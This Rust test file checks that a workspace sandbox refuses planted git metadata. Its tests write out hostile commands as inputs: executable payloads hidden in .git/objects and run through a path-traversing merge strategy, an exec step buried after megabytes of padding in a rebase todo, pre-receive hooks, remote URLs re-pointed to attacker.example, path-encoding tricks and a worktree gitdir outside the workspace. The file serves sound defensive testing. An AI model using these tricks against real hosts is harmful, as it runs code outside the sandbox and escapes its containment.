fn a_sequencer_strategy_on_its_sections_line_is_read_as_git_reads_it() {
    // TRUST-1 — third attack pass, F1: `[options] strategy = a/../x` is one line to a
    // line checker and `options.strategy` to git, which then runs `git-merge-a/../x`.
    if !ready() {
        return;
    }
    let ws = Ws::new();
    let repo = stopped_cherry_pick(&ws);
    let plant = ws.plant();
    let out = ws.command(&format!(
        "mkdir -p git-merge-a && printf '#!/bin/sh\\n{plant}\\n' > .git/objects/ev && \
         chmod +x .git/objects/ev && \
         printf '[options] strategy = a/../.git/objects/ev\\n' > .git/sequencer/opts && echo set"
    ));
    assert_eq!(out["stdout"], "set\n", "{out:#}");
    assert!(refused_text(&out).contains("sequencer/opts"), "{out:#}");
    std::fs::write(repo.join("README"), "resolved\n").unwrap();
    ws.git_ok(&repo, &["add", "README"]);
    let _ = ws.git(&repo, &["cherry-pick", "--continue"]);
    ws.assert_nothing_ran();
}

#[test]
fn a_list_of_steps_too_long_to_read_whole_is_not_applied() {
    // TRUST-1 — third attack pass, F2: an `exec` step after megabytes of comments.
    if !ready() {
        return;
    }
    let ws = Ws::new();
    let repo = ws.repo("");
    for i in 0..2 {
        std::fs::write(repo.join("n"), format!("{i}\n")).unwrap();
        ws.git_ok(&repo, &["add", "n"]);
        ws.git_ok(&repo, &["commit", "-q", "-m", &format!("n{i}")]);
    }
    let plant = ws.plant();
    let out = ws.command(&format!(
        "GIT_SEQUENCE_EDITOR='sed -i 1s/^pick/edit/' git rebase -q -i HEAD~2 && \
         head -c 2097152 /dev/zero | tr '\\0' '#' >> .git/rebase-merge/git-rebase-todo && \
         printf '\\nexec {plant}\\n' >> .git/rebase-merge/git-rebase-todo && echo stopped"
    ));
    assert_eq!(out["stdout"], "stopped\n", "{out:#}");
    assert!(refused_text(&out).contains("git-rebase-todo"), "{out:#}");
    let _ = ws.git(&repo, &["rebase", "--continue"]);
    ws.assert_nothing_ran();
}

#[test]
fn a_remote_may_not_lead_pushes_to_a_repository_the_command_could_have_made() {
    // TRUST-1 — third attack pass, F3 and F4: a push remote into a bare repository
    // planted in the written-through objects directory (its pre-receive hook runs on the
    // host's `git push`); a push URL, push refspecs, a fetch into refs/heads/, an existing
    // remote re-pointed, and a repository-format change of an existing repository.
    if !ready() {
        return;
    }
    let ws = Ws::new();
    let repo = ws.repo("");
    ws.git_ok(
        &repo,
        &["remote", "add", "origin", "https://example.org/r.git"],
    );
    let plant = ws.plant();
    let out = ws.command(&format!(
        "git init -q --bare .git/objects/e.git && \
         printf '#!/bin/sh\\n{plant}\\n' > .git/objects/e.git/hooks/pre-receive && \
         chmod +x .git/objects/e.git/hooks/pre-receive && \
         git config branch.main.pushremote \"$PWD/.git/objects/e.git\" && \
         git config remote.origin.pushurl https://attacker.example/x.git && \
         git config remote.origin.push :refs/heads/keep && \
         git config --add remote.origin.fetch '+refs/heads/*:refs/heads/*' && \
         git config remote.origin.url https://attacker.example/y.git && \
         git config extensions.refstorage reftable && echo set"
    ));
    assert_eq!(out["stdout"], "set\n", "{out:#}");
    let refused = refused_text(&out);
    for key in [
        "branch.main.pushremote",
        "remote.origin.pushurl",
        "remote.origin.push",
        "remote.origin.fetch",
        "remote.origin.url",
        "extensions.refstorage",
    ] {
        assert!(refused.contains(key), "{key} not refused: {out:#}");
    }
    let _ = ws.git(&repo, &["push"]);
    ws.git_ok(&repo, &["log", "-1"]);
    ws.assert_nothing_ran();
}

#[test]
fn a_relative_or_not_yet_existing_push_path_into_the_workspace_is_refused() {
    // TRUST-1 — fourth attack pass: a submodule's push remote relative to its own work
    // tree, a path that a later checkout would make, and a submodule URL into a repository
    // planted in the written-through objects directory.
    if !ready() {
        return;
    }
    let ws = Ws::new();
    let repo = ws.repo("proj");
    ws.repo("up");
    let plant = ws.plant();
    let out = ws.command(&format!(
        "cd proj && git -c protocol.file.allow=always submodule add -q ../up lib && \
         git init -q --bare .git/objects/e.git && \
         printf '#!/bin/sh\\n{plant}\\n' > .git/objects/e.git/hooks/pre-receive && \
         chmod +x .git/objects/e.git/hooks/pre-receive && \
         git -C lib config branch.main.pushremote ../.git/objects/e.git && \
         git config branch.main.pushremote ev.git && \
         git config submodule.lib.url \"$PWD/.git/objects/e.git\" && echo set"
    ));
    assert_eq!(out["stdout"], "set\n", "{out:#}");
    let refused = refused_text(&out);
    assert!(
        refused.contains("modules/lib/config") && refused.contains("branch.main.pushremote"),
        "{out:#}"
    );
    assert_eq!(
        refused.matches("branch.main.pushremote").count(),
        2,
        "{out:#}"
    );
    assert!(refused.contains("submodule.lib.url"), "{out:#}");
    let _ = ws.git(&repo.join("lib"), &["push"]);
    ws.assert_nothing_ran();
}

#[test]
fn a_push_path_git_would_read_another_way_than_the_check_is_refused() {
    // TRUST-1 — fifth attack pass: `..` beside a `...git` gitfile (git appends `.git`
    // to the path as written), `~` (git expands it), `%` escapes in `file://` (git decodes
    // them), and a path taken for a remote's name by a key prefix.
    if !ready() {
        return;
    }
    let ws = Ws::new();
    let repo = ws.repo("");
    ws.git_ok(
        &repo,
        &["remote", "add", "origin", "https://example.org/r.git"],
    );
    let plant = ws.plant();
    let escaped = repo.display().to_string().replacen("work", "wor%6b", 1);
    let out = ws.command(&format!(
        "git init -q --bare .git/objects/e.git && \
         printf '#!/bin/sh\\n{plant}\\n' > .git/objects/e.git/hooks/pre-receive && \
         chmod +x .git/objects/e.git/hooks/pre-receive && \
         echo \"gitdir: $PWD/.git/objects/e.git\" > ...git && \
         git config branch.main.pushremote .. && \
         git config remote.t.url \"~/../..$PWD/.git/objects/e.git\" && \
         git config remote.p.url 'file://{escaped}/.git/objects/e.git' && \
         git config remote..git/objects/e.git.z.url https://example.org/z.git && \
         git config branch.other.pushremote .git/objects/e.git && echo set"
    ));
    assert_eq!(out["stdout"], "set\n", "{out:#}");
    let refused = refused_text(&out);
    for key in [
        "branch.main.pushremote",
        "remote.t.url",
        "remote.p.url",
        "branch.other.pushremote",
    ] {
        assert!(refused.contains(key), "{key} not refused: {out:#}");
    }
    for remote in ["t", "p"] {
        let _ = ws.git(&repo, &["push", remote, "main"]);
    }
    let _ = ws.git(&repo, &["push"]);
    ws.assert_nothing_ran();
}

#[test]
fn a_worktree_pointing_outside_the_workspace_is_not_applied() {
    // TRUST-1 — sixth attack pass: `worktrees/<n>/gitdir` naming a directory outside
    // the workspace, where the host's `git worktree repair` writes a `.git` file.
    if !ready() {
        return;
    }
    let ws = Ws::new();
    let repo = ws.repo("");
    let victim = ws.tree.outside_dir().join("victim");
    std::fs::create_dir_all(&victim).unwrap();
    let out = ws.command(&format!(
        "mkdir -p .git/worktrees/x && echo ../.. > .git/worktrees/x/commondir && \
         echo 'ref: refs/heads/main' > .git/worktrees/x/HEAD && \
         echo {}/.git > .git/worktrees/x/gitdir && echo set",
        victim.display()
    ));
    assert_eq!(out["stdout"], "set\n", "{out:#}");
    assert!(refused_text(&out).contains("worktrees/x/gitdir"), "{out:#}");
    let _ = ws.git(&repo, &["worktree", "repair"]);
    assert!(!victim.join(".git").exists(), "{out:#}");
}
